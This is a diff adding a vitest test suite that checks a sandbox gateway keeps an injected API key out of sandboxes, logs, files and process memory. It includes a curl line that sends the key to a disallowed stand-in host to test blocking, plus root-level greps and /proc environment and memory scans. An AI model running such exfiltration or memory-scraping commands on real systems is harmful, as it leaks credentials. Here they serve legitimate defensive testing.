@@ -1,0 +1,163 @@
+import { closeSync, openSync, readdirSync, readFileSync, readSync, statSync } from "node:fs";
+import { join } from "node:path";
+import { setTimeout as sleep } from "node:timers/promises";
+import type { Sandbox } from "@sandboxer/sdk";
+import { afterAll, beforeAll, beforeEach, expect, it } from "vitest";
+import { requires } from "../capabilities/requires.ts";
+import { initPidOf, namespacesOf, processesIn } from "../security/host-view.ts";
+import { holds, KEY, MODEL } from "./lab/keys.ts";
+import { WORLD } from "./lab/lab.ts";
+import { type Bench, openBench, text } from "./lab/sandbox.ts";
+
+const { describe } = await requires("linux-userns", "boxd", "egress-lab");
+
+/** An agent that asks a model, keeps the answer, and lives on. */
+const AGENT = `
+import json, os, time, urllib.request
+key = os.environ["MODEL_KEY"]
+open("/home/user/.config.json", "w").write(json.dumps({"key": key}))
+body = json.dumps({"model": "m", "messages": [{"role": "user", "content": "2+2?"}]}).encode()
+request = urllib.request.Request("https://model.test/v1/messages", body, {"x-api-key": key, "content-type": "application/json"})
+answer = urllib.request.urlopen(request).read().decode()
+print(answer, flush=True)
+time.sleep(60)
+`;
+
+describe("a secret that never enters", () => {
+  let bench: Bench;
+  let sandbox: Sandbox;
+  const log: string[] = [];
+  beforeAll(async () => {
+    bench = await openBench({}, { log: (line) => void log.push(JSON.stringify(line)) });
+    for (const name of ["model.test", "other.test"]) await bench.lab.name(name, [WORLD]);
+    await bench.lab.accept(KEY);
+    await bench.client.secrets.set("MODEL_KEY", { value: KEY, bindings: [MODEL] });
+    const rules = [{ host: "model.test" }, { host: "other.test", inspect: true }];
+    sandbox = await bench.sandbox({ rules }, { secrets: ["MODEL_KEY"] });
+  });
+  afterAll(() => bench.close());
+  beforeEach(() => bench.lab.clear());
+
+  it("SE-1 an agent's key works through a placeholder, and is nowhere inside", async () => {
+    const process = await sandbox.exec({ argv: ["python3", "-c", AGENT] });
+    let said = "";
+    for await (const event of process.events) {
+      if (event.type === "stdout" || event.type === "stderr") said += text(event.data);
+      if (said.includes("\n")) break;
+    }
+    expect(said).toContain('"text":"four"');
+    const { records } = await bench.lab.look();
+    const [asked] = records.filter(({ kind }) => kind === "request");
+    expect(asked?.headers?.join("\n"), "the far side has the key").toContain(KEY);
+
+    const { stdout } = await sandbox.run(["printenv", "MODEL_KEY"]);
+    const placeholder = text(stdout).trim();
+    expect(placeholder).toMatch(/^sk-ant-api03-/);
+    expect(placeholder).toHaveLength(KEY.length);
+    expect(holds(placeholder, KEY)).toEqual([]);
+
+    const inside = searchProcesses(join(bench.home, "engine"), sandbox.id, [KEY, placeholder]);
+    expect(inside.processes).toBeGreaterThan(1);
+    expect(inside.found(KEY), "the key").toEqual([]);
+    expect(inside.found(placeholder), "control: what is there is found").not.toEqual([]);
+    const files = await sandbox.run(
+      ["sh", "-c", `grep -rlsF -- '${KEY}' /home /tmp /etc /run /var /root; true`],
+      {
+        user: "root",
+      },
+    );
+    expect(text(files.stdout)).toBe("");
+    const control = await sandbox.run(["grep", "-rlsF", "--", placeholder, "/home"]);
+    expect(text(control.stdout)).toBe("/home/user/.config.json\n");
+    await process.signal("KILL");
+  });
+
+  it("SE-6 it is in no file of the home, no event, no error, no log and no answer", async () => {
+    const used = await sandbox.run(["sh", "-c", 'curl -s -H "x-api-key: $MODEL_KEY" https://other.test/']);
+    expect(text(used.stdout)).toContain("where that may not go");
+    await sleep(1_200);
+    const files = walk(bench.home).filter((path) => !path.includes("/engine/") && statSync(path).isFile());
+    expect(files.some((path) => path.endsWith("state.db"))).toBe(true);
+    const holding = files.filter((path) => holds(readFileSync(path, "latin1"), KEY).length > 0);
+    expect(holding).toEqual([]);
+    const events = JSON.stringify(await bench.client.events.list({ limit: 500 }));
+    const { calls } = await sandbox.networkCalls();
+    const shown = JSON.stringify([await bench.client.secrets.list(), await sandbox.refresh(), calls]);
+    for (const told of [events, shown, log.join("\n")]) expect(holds(told, KEY)).toEqual([]);
+    expect(events).toContain("secret.misused");
+    const database =
+      readFileSync(join(bench.home, "state.db"), "latin1") +
+      readFileSync(join(bench.home, "state.db-wal"), "latin1");
+    expect(database, "control: it is kept, sealed").toContain("sealed:1:");
+  });
+
+  it("SE-7 what unseals it is its owner's alone, and no process of the gateway says it", async () => {
+    expect(statSync(join(bench.home, "secrets.key")).mode & 0o777).toBe(0o600);
+    for (const pid of readdirSync("/proc").filter((name) => /^\d+$/.test(name))) {
+      const said = ["cmdline", "environ"].map((name) => readOrNone(`/proc/${pid}/${name}`)).join("");
+      if (said.includes(bench.home)) expect(holds(said, KEY)).toEqual([]);
+    }
+    const { stdout } = await sandbox.run(["sh", "-c", "ls /proc | grep -c '^[0-9]'; ls /home"], {
+      user: "root",
+    });
+    expect(text(stdout)).not.toContain("secrets.key");
+  });
+
+  it("refuses a secret that is not there or has nowhere to go", async () => {
+    const guarded = { egress: "guarded" as const };
+    const none = bench.client.sandboxes.create({ network: guarded, secrets: ["NOSUCH"] });
+    await expect(none).rejects.toMatchObject({ code: "policy_denied" });
+    const sealed = bench.client.sandboxes.create({ secrets: ["MODEL_KEY"] });
+    await expect(sealed).rejects.toMatchObject({ code: "invalid_request" });
+    for (const value of ["short", "two\nlines of it", "ümlaut-ümlaut", " padded value"]) {
+      const set = bench.client.secrets.set("BAD", { value, bindings: [MODEL] });
+      await expect(set, value).rejects.toMatchObject({ code: "invalid_request" });
+    }
+  });
+});
+
+/** Environment, command line and every readable byte of memory, as the host sees them. */
+function searchProcesses(engineDir: string, sandboxId: string, words: readonly string[]) {
+  const pids = processesIn(namespacesOf(initPidOf(engineDir, sandboxId)).pid as string);
+  const hits = new Map<string, string[]>(words.map((word) => [word, []]));
+  const look = (where: string, bytes: Buffer) => {
+    for (const word of words) if (bytes.includes(word)) hits.get(word)?.push(where);
+  };
+  for (const pid of pids) {
+    for (const name of ["environ", "cmdline"])
+      look(`${pid}/${name}`, Buffer.from(readOrNone(`/proc/${pid}/${name}`)));
+    for (const bytes of memoryOf(pid)) look(`${pid}/mem`, bytes);
+  }
+  return { processes: pids.length, found: (word: string) => hits.get(word) ?? [] };
+}
+
+function* memoryOf(pid: number): Generator<Buffer> {
+  const memory = openSync(`/proc/${pid}/mem`, "r");
+  try {
+    for (const line of readOrNone(`/proc/${pid}/maps`).split("\n")) {
+      const [, from, to] = /^([0-9a-f]+)-([0-9a-f]+) r/.exec(line) ?? [];
+      if (from === undefined || to === undefined || line.includes("[vvar")) continue;
+      const [start, end] = [BigInt(`0x${from}`), BigInt(`0x${to}`)];
+      const bytes = Buffer.alloc(Math.min(Number(end - start), 256 * 2 ** 20));
+      try {
+        yield bytes.subarray(0, readSync(memory, bytes, 0, bytes.length, start));
+      } catch {
+        // Not every page that says so can be read.
+      }
+    }
+  } finally {
+    closeSync(memory);
+  }
+}
+
+function walk(dir: string): string[] {
+  return readdirSync(dir, { recursive: true, encoding: "utf8" }).map((name) => join(dir, name));
+}
+
+function readOrNone(path: string): string {
+  try {
+    return readFileSync(path, "latin1");
+  } catch {
+    return "";
+  }
+}
